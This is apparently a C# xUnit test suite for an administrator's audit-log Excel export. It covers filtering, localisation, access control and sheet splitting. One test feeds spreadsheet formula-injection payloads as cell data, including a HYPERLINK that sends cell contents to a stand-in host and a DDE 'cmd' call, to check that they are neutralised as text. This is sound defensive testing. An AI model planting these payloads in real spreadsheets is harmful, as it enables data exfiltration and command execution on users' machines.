using System.Globalization;
using System.Net;
using System.Text.Json;
using ClosedXML.Excel;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.Localization;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Time.Testing;
using RelationSync.Portal.Audit;
using RelationSync.Portal.ErrorLog.Workbook;
using RelationSync.Portal.Resources;
using RelationSync.Portal.Storage;
using RelationSync.Tests.Portal.Storage;

namespace RelationSync.Tests.Portal.ErrorLog.Workbook;

public sealed class AuditExportTests : IAsyncLifetime
{
    private const string Sheet = "監査ログ";

    private ExportHost _host = null!;

    public async Task InitializeAsync() => _host = await ExportHost.StartAsync(role: "Administrator");

    public async Task DisposeAsync() => await _host.DisposeAsync();

    [Fact]
    public async Task Export_ByAnAdministrator_IsADownloadInWordsNewestFirst()
    {
        await NoteAsync("admin@example.com", AuditAct.AccountRoleChanged, "sato@example.com", TestStore.Now.AddHours(-2), "192.0.2.7", ("from", "Support"), ("to", "Administrator"));
        await NoteAsync("provisioning", AuditAct.InboxCreated, "support", TestStore.Now.AddHours(-1), null, ("name", "Support"));

        var response = await _host.GetAsync("/audit.xlsx");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("監査ログ_2025-11-24_2026-11-24.xlsx", response.Content.Headers.ContentDisposition?.FileNameStar);
        Assert.Equal("audit_2025-11-24_2026-11-24.xlsx", response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        Assert.True(response.Headers.CacheControl?.NoStore);
        var stream = await response.Content.ReadAsStreamAsync();
        var rows = Lines(stream);
        Assert.Equal(["構成ファイル", "このサーバー", "受信箱の作成", "support", "名前：Support", "InboxCreated"], Texts(rows[0]));
        Assert.Equal(["admin@example.com", "192.0.2.7", "役割の変更", "sato@example.com", "変更前：サポート\n変更後：管理者", "AccountRoleChanged"], Texts(rows[1]));
        Assert.Equal(TestStore.Now.AddHours(9 - 2).DateTime, StreamedSheet.Time(rows[1]["A"]));
        Assert.Empty(Validity.Faults(stream));
    }

    [Fact]
    public async Task Export_Done_StandsInTheLogItself()
    {
        await NoteAsync("admin@example.com", AuditAct.SignedIn, "admin@example.com", TestStore.Now, "192.0.2.7");

        await _host.GetAsync("/audit.xlsx?who=admin%40example.com&act=SignedIn&q=admin");

        var entry = await _host.Store.Store.ReadAsync((db, token) => db.AuditEntries.SingleAsync(e => e.Act == AuditAct.AuditExported, token), default);
        Assert.Equal(("administrator@example.com", TestStore.Now), (entry.Actor, entry.At));
        var details = JsonSerializer.Deserialize<Dictionary<string, string>>(entry.DetailsJson!)!;
        Assert.Equal(("audit_2025-11-24_2026-11-24.xlsx", "1", "admin@example.com", "SignedIn", "true"), (details["file"], details["count"], details["who"], details["act"], details["search"]));
    }

    [Fact]
    public async Task Export_OfWhatIsOlderThanAYear_LeavesItOut()
    {
        await NoteAsync("a@example.com", AuditAct.SignedIn, "kept", TestStore.Now.AddDays(-365));
        await NoteAsync("a@example.com", AuditAct.SignedIn, "old", TestStore.Now.AddDays(-365).AddTicks(-1));

        var response = await _host.GetAsync("/audit.xlsx?from=2020-01-01");

        Assert.Equal(["kept"], Lines(await response.Content.ReadAsStreamAsync()).Select(r => r["E"]));
    }

    [Theory]
    [InlineData("", "3,2,1,0")]
    [InlineData("?who=b%40example.com", "2,0")]
    [InlineData("?act=SignedOut", "3")]
    [InlineData("?q=number%201", "1")]
    [InlineData("?from=2026-11-23&to=2026-11-23", "2")]
    [InlineData("?to=2026-11-22", "1,0")]
    [InlineData("?from=2027-01-01", "")]
    public async Task Export_Filtered_HoldsWhatThePageShows(string query, string expected)
    {
        for (var i = 0; i < 4; i++)
        {
            await NoteAsync(i % 2 == 0 ? "b@example.com" : "a@example.com", i == 3 ? AuditAct.SignedOut : AuditAct.SignedIn, $"number {i}", TestStore.Now.AddDays(i - 3));
        }

        var rows = Lines(await (await _host.GetAsync($"/audit.xlsx{query}")).Content.ReadAsStreamAsync());

        Assert.Equal(expected, string.Join(',', rows.Select(r => r["E"].Split(' ')[1])));
    }

    [Fact]
    public async Task Export_InEnglish_IsEnglish()
    {
        _host.Client.DefaultRequestHeaders.AcceptLanguage.ParseAdd("en");
        await NoteAsync("admin@example.com", AuditAct.SilenceAlertChanged, "support", TestStore.Now, null, ("before_minutes", null), ("minutes", "60"));

        var stream = await (await _host.GetAsync("/audit.xlsx")).Content.ReadAsStreamAsync();

        Assert.Equal(["Audit log"], StreamedSheet.Names(stream));
        Assert.Contains("Before (minutes): None\nAfter (minutes): 60", StreamedSheet.Rows(stream, "Audit log")[^1]["F"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Export_Followed_IsSeenToTheEnd()
    {
        await NoteAsync("a@example.com", AuditAct.SignedIn, "x", TestStore.Now);
        using var ticket = _host.Followers.Follow();

        await _host.GetAsync($"/audit.xlsx?progress={ticket.Id}");

        Assert.Equal(new WorkbookStep(WorkbookStage.Made, 1, 1), ticket.Progress.Step);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1)")]
    [InlineData("+81312345678")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\tcmd")]
    public async Task Cell_LikeAFormula_IsTextWithTheQuotePrefix(string text)
    {
        await NoteAsync(text, AuditAct.InboxChanged, text, TestStore.Now, text, (text, text));

        var stream = await (await _host.GetAsync($"/audit.xlsx?q={Uri.EscapeDataString(text.Trim())}")).Content.ReadAsStreamAsync();
        using (var document = SpreadsheetDocument.Open(stream, false))
        {
            Assert.All(document.WorkbookPart!.WorksheetParts, p => Assert.Empty(p.Worksheet.Descendants<CellFormula>()));
        }

        using var workbook = new XLWorkbook(stream);
        var row = workbook.Worksheet(Sheet).LastRowUsed();
        foreach (var column in (int[])[2, 3, 5, 6])
        {
            var cell = row.Cell(column);
            Assert.StartsWith(text, cell.GetString(), StringComparison.Ordinal);
            Assert.Equal((XLDataType.Text, false, true), (cell.DataType, cell.HasFormula, cell.Style.IncludeQuotePrefix));
        }
    }

    [Theory]
    [InlineData("from=yesterday", "from")]
    [InlineData("to=2026-02-30", "to")]
    [InlineData("act=Everything", "act")]
    [InlineData("act=0", "act")]
    [InlineData("before=9", "before")]
    public async Task Parameter_Unusable_IsNamed(string query, string parameter)
    {
        var response = await _host.GetAsync($"/audit.xlsx?{query}");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.True(JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("errors").TryGetProperty(parameter, out _));
    }

    [Theory]
    [InlineData(true, HttpStatusCode.Forbidden)]
    [InlineData(false, HttpStatusCode.Unauthorized)]
    public async Task Export_BySupportOrNobody_IsRefusedAndNothingIsNoted(bool signedIn, HttpStatusCode expected)
    {
        await using var host = await ExportHost.StartAsync(signedIn);

        Assert.Equal(expected, (await host.GetAsync("/audit.xlsx")).StatusCode);
        Assert.False(await host.Store.Store.ReadAsync((db, token) => db.AuditEntries.AnyAsync(token), default));
    }

    [Fact]
    public async Task Export_OfMoreThanASheet_GoesOnInTheNext()
    {
        for (var i = 0; i < 25; i++)
        {
            await NoteAsync("a@example.com", AuditAct.SignedIn, $"{i}", TestStore.Now.AddMinutes(i - 60));
        }

        // The heading takes two lines and a free one.
        var limits = new WorkbookLimits(PageSize: 7, RowsPerSheet: 13);
        using var turns = new ExportQueue(limits);
        var texts = new StringLocalizer<AuditTexts>(new ResourceManagerStringLocalizerFactory(Microsoft.Extensions.Options.Options.Create(new LocalizationOptions()), NullLoggerFactory.Instance));
        var before = CultureInfo.CurrentUICulture;
        CultureInfo.CurrentUICulture = CultureInfo.GetCultureInfo("ja");
        using var file = await new AuditWorkbook(new AuditReader(_host.Store.Store, limits), turns, limits, texts, new FakeTimeProvider(TestStore.Now))
            .MakeAsync(new AuditQuery(), new WorkbookProgress(), default);
        CultureInfo.CurrentUICulture = before;

        Assert.Equal([Sheet, $"{Sheet}（2）", $"{Sheet}（3）"], StreamedSheet.Names(file.Content));
        var all = StreamedSheet.Names(file.Content).SelectMany(name => Lines(file.Content, name)).Select(r => r["E"]);
        Assert.Equal(Enumerable.Range(0, 25).Reverse().Select(i => $"{i}"), all);
        Assert.Empty(Validity.Faults(file.Content));
    }

    private static List<Dictionary<string, string>> Lines(Stream workbook, string sheet = Sheet) =>
        [.. StreamedSheet.Rows(workbook, sheet).SkipWhile(r => r.GetValueOrDefault("G") != "操作コード").Skip(1)];

    private static IEnumerable<string> Texts(Dictionary<string, string> row) => "BCDEFG".Select(c => row[$"{c}"]);

    private Task NoteAsync(string actor, AuditAct act, string about, DateTimeOffset at, string? address = "192.0.2.1", params (string Key, string? Value)[] details) =>
        _host.Store.Store.WriteAsync(
            (db, _) =>
            {
                db.Audit(actor, address, act, about, at, details);
                return Task.CompletedTask;
            },
            default);
}
